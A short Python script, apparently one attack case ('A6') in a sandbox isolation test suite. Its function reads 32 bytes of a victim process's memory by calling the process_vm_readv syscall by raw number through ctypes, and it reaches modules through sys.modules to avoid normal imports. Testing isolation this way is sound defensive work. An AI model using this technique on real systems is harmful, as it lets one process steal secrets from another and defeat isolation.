# A6: copies another process's memory by the bare number of the call
# Without layers: may succeed
import sys

os = sys.modules["os"]

READV = {"x86_64": 310, "aarch64": 270}


def attack(facts):
    ctypes = sys.modules["ctypes"]
    text = ctypes.create_string_buffer(33)
    here = (ctypes.c_size_t * 2)(ctypes.addressof(text), 32)
    there = (ctypes.c_size_t * 2)(facts["secret_address"], 32)
    one, none = ctypes.c_ulong(1), ctypes.c_ulong(0)
    number = READV[os.uname().machine]
    ctypes.CDLL(None).syscall(number, facts["victim"], here, one, there, one, none)
    return text.value.decode()
